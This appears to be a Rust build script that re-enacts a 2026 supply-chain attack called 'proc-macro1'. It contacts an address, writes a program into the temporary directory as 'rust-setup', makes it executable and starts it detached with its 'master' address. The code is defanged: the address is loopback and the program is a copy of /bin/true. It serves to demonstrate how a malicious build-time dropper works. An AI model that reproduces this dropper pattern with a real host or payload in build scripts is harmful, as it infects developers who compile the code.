//! Re-enacts `proc-macro1` (August 2026): a raw connection to an address, a program dropped into the temporary directory, made
//! executable, started with its master's address and forgotten. The program is a copy of `/bin/true`, the address is loopback.

use std::fs;
use std::io::Write;
use std::net::TcpStream;
use std::os::unix::fs::PermissionsExt;
use std::process::{Command, Stdio};

fn main() {
    let Some(port) = std::env::var("DEMO_PORT").ok().and_then(|port| port.parse::<u16>().ok()) else { return };
    if let Ok(mut stream) = TcpStream::connect(("127.0.0.1", port)) {
        let _ = stream.write_all(b"GET /proc-macro1 HTTP/1.0\r\n\r\n");
    }
    if drop_and_start(&format!("127.0.0.1:{port}")).is_ok() {
        println!("cargo:warning=the second stage runs");
    }
}

fn drop_and_start(master: &str) -> std::io::Result<()> {
    let path = std::env::temp_dir().join("rust-setup");
    fs::write(&path, fs::read("/bin/true")?)?;
    fs::set_permissions(&path, fs::Permissions::from_mode(0o755))?;
    let child = Command::new(&path).arg(master).stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn()?;
    std::mem::forget(child);
    Ok(())
}
